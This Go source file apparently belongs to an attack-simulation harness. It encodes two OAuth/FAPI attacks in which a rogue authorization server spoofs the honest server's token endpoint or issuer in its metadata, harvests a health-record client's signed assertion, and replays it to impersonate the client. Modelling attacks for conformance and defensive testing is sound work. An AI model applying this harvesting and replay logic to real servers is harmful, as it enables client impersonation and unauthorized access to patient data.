package attacker

import (
	"context"

	"thiefbox/sim/event"
)

var _ = register("X-05", Technique{
	Title: "Audience injection: a dishonest server harvests a client's assertion",
	Story: "The EHR uses the same id and key at a regional server, which the thief runs. That server's metadata names the honest server's " +
		"token endpoint as its own, so the EHR addresses its assertion there, but pushes its request to the thief. He spends the assertion " +
		"at the honest server: it is unused, in date, and addressed correctly.",
	Reads: []string{"CVE-2025-27370", "CVE-2025-27371", "ePrint 2025/629", "FAPI 2.0 SP 5.3.2.1-8", "RFC 10070"},
	Needs: []event.Vantage{event.RogueAS}, Against: []Trait{KeyAuth, Pushed},
	Run: func(ctx context.Context, g Ground) error {
		honest, err := discover(ctx, g, g.Target().Issuer)
		if err != nil {
			return err
		}
		ro := newRogue(g)
		ro.meta.TokenEndpoint = honest.TokenEndpoint // the injection
		ro.open()
		if err := g.LureAndInterrupt(g.Target().ClientLogin + ro.meta.Issuer); err != nil {
			return err
		}
		assertion := ro.lastPushed().Get("client_assertion")
		if assertion == "" {
			return ErrStopped
		}
		return actAsClient(ctx, g, assertion)
	},
})

var _ = register("X-03", Technique{
	Variant: "posing-as-the-honest-server",
	Title:   "A dishonest server claims to be the honest one",
	Story: "The regional server's metadata names the honest server's issuer as its own. A client that does not compare it with the name it " +
		"asked for addresses its assertions to the honest server and sends them to the thief.",
	Reads: []string{"RFC 8414 s3.3", "FAPI 2.0 SP 5.3.3.1-11", "OIDF conformance suite, discovery-issuer-mismatch"},
	Needs: []event.Vantage{event.RogueAS}, Against: []Trait{KeyAuth, Pushed},
	Run: func(ctx context.Context, g Ground) error {
		honest, err := discover(ctx, g, g.Target().Issuer)
		if err != nil {
			return err
		}
		ro := newRogue(g)
		rogues := ro.meta.Issuer
		ro.meta.Issuer, ro.meta.TokenEndpoint = honest.Issuer, honest.TokenEndpoint
		ro.open()
		if err := g.LureAndInterrupt(g.Target().ClientLogin + rogues); err != nil {
			return err
		}
		assertion := ro.lastPushed().Get("client_assertion")
		if assertion == "" {
			return ErrStopped
		}
		return actAsClient(ctx, g, assertion)
	},
})
